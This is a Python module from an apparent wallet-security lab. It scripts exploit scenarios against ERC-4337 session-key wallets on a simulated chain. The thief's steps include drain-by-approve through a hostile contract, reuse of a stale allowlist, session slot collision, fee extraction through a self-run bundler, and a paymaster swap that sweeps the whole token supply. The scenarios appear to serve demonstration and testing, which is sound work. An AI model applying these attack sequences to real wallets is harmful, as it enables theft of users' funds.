"""What is done in each case: the owner's part first, then the thief's, step by step. Amounts sent are named here."""

from __future__ import annotations

from collections.abc import Iterator

from eth_hash.auto import keccak

from sessionlab.attacks.acts import act, install, operation, revoke, send, signed, transact
from sessionlab.attacks.scene import (
    COUNTER,
    ETHER,
    GWEI,
    INCREMENT,
    OTHER_SESSION,
    OTHER_TOKEN,
    PAYMASTER,
    SESSION,
    STRANGER,
    SUPPLY,
    TOKEN,
    WALLET,
    BundleOutcome,
    Scene,
)
from sessionlab.core.base.addresses import checksum
from sessionlab.core.contracts.artifacts import artifact
from sessionlab.core.erc4337.user_operation import ENTRY_POINT
from sessionlab.core.erc4337.wallet_encoding import RawCall
from sessionlab.core.permissions import ContractAccess, Erc20TokenTransfer

Played = Iterator[tuple[str, BundleOutcome]]

#: Units of the token.
LIMIT, LARGE = 50, 1_000_000
#: As the thief of July 2026 set it, in wei for one gas.
PRICE = 4_062 * GWEI
#: What an operation says that its bundling costs, in gas; nobody can check it, so all of it is paid.
CLAIMED_GAS = 500_000
#: A contract of the thief's.
TRAP = checksum(keccak(b"sessionlab museum trap")[12:])
token, counter = artifact("Token"), artifact("Counter")
GAME = ContractAccess(address=COUNTER)
COINS = Erc20TokenTransfer(address=TOKEN, allowance=LIMIT)
MUCH = Erc20TokenTransfer(address=TOKEN, allowance=LARGE)
OLD = ContractAccess(address=OTHER_TOKEN)
PLUGIN = ContractAccess(address=TRAP)
PING = RawCall(COUNTER, data=INCREMENT)
FAIL = RawCall(COUNTER, data=counter.encode("fail"))


def coins(amount: int, what: str = "transfer", to: str = STRANGER.address, of: str = TOKEN) -> RawCall:
    """A call of a token."""
    return RawCall(of, data=token.encode(what, to, amount))


# -- wrapped-call


def play_wrapped(scene: Scene) -> Played:
    """The same call, bare and wrapped."""
    steal = [coins(SUPPLY)]
    yield "execute(token.transfer(thief, everything))", act(scene, steal, wrapped=False)
    yield "executeUserOp, and in it the same execute(…)", act(scene, steal, wrapped=True)


# -- drain-by-approve


def prepare_trap(scene: Scene) -> None:
    """The thief's contract stands there as an app, and the owner lets the key call it."""
    scene.chain.set_code(TRAP, artifact("Hostile").runtime)
    install(scene, [COINS, PLUGIN])


def arm(scene: Scene, amount: int) -> None:
    """The next call of the trap pulls so many units from the wallet."""
    pull = token.encode("transferFrom", WALLET, STRANGER.address, amount)
    transact(scene, STRANGER, TRAP, artifact("Hostile").encode("arm", [(TOKEN, 0, pull)], b"", False))


def play_approve(scene: Scene) -> Played:
    """Pull and approve anew in one batch: the difference is always nothing."""
    yield f"approve(trap, {LIMIT})", act(scene, [coins(LIMIT, "approve", TRAP)])
    for _ in range(3):
        arm(scene, LIMIT)
        calls = [RawCall(TRAP), coins(LIMIT, "approve", TRAP)]
        yield f"one batch: the trap pulls {LIMIT}, then approve(trap, {LIMIT}) again", act(scene, calls)


# -- stale-allowlist


def prepare_stale(scene: Scene) -> None:
    """A wide session is revoked as clients do it, and a narrow one gets its id."""
    install(scene, [OLD])
    revoke(scene, with_hook_data=False)
    install(scene, [COINS], life=1)


def play_stale(scene: Scene) -> Played:
    """The new key reaches for the old list."""
    yield "of the other token: transfer(thief, everything)", act(scene, [coins(SUPPLY, of=OTHER_TOKEN)])


# -- slot-collision


def prepare_two(scene: Scene) -> None:
    """Two sessions of one wallet, one small and one large."""
    install(scene, [COINS])
    install(scene, [MUCH], entity=2, key=OTHER_SESSION)


def play_two(scene: Scene) -> Played:
    """The small key spends the large one's limit."""
    yield f"the small key: token.transfer(thief, {LARGE:,})", act(scene, [coins(LARGE)])


# -- own-bundler


def play_bundler(scene: Scene) -> Played:
    """No key of the wallet, no gas for the call, any price: fees are owed all the same."""
    words = f"an operation without gas for its call, at {PRICE // GWEI:,} gwei, in a bundle of the thief's own"
    for _ in range(4):
        op = operation(
            scene,
            [PING],
            call_gas_limit=0,
            pre_verification_gas=CLAIMED_GAS,
            max_fee_per_gas=PRICE,
            max_priority_fee_per_gas=PRICE,
        )
        yield words, send(scene, signed(scene, op, STRANGER), beneficiary=STRANGER.address)


# -- paymaster-swap


def prepare_paymaster(scene: Scene) -> None:
    """The thief's own account is a paymaster too (EIP-7702), with a deposit that pays for everybody."""
    install(scene, [GAME])
    scene.chain.set_code(STRANGER.address, bytes.fromhex("ef0100" + PAYMASTER[2:]))
    transact(scene, STRANGER, ENTRY_POINT, artifact("EntryPoint").encode("depositTo", STRANGER.address), ETHER)


def play_paymaster(scene: Scene) -> Played:
    """The operation names thief and token; then the thief takes what was approved."""
    op = operation(
        scene,
        [PING],
        paymaster=STRANGER.address,
        paymaster_verification_gas_limit=100_000,
        paymaster_data=bytes.fromhex(TOKEN[2:]),
    )
    words = "a harmless call that names the thief as its paymaster, and the token"
    yield words, send(scene, signed(scene, op, SESSION))
    sweep = token.encode("transferFrom", WALLET, STRANGER.address, SUPPLY)
    yield "the thief: token.transferFrom(wallet, thief, everything)", transact(scene, STRANGER, TOKEN, sweep)


# -- abort-skips-counter


def play_abort(scene: Scene) -> Played:
    """The call behind the transfer fails, so that nothing behind it runs."""
    for _ in range(3):
        yield f"one batch: transfer(thief, {LIMIT}), then a call that fails", act(scene, [coins(LIMIT), FAIL])
    yield f"transfer(thief, {LIMIT})", act(scene, [coins(LIMIT)])
    yield "transfer(thief, 1)", act(scene, [coins(1)])
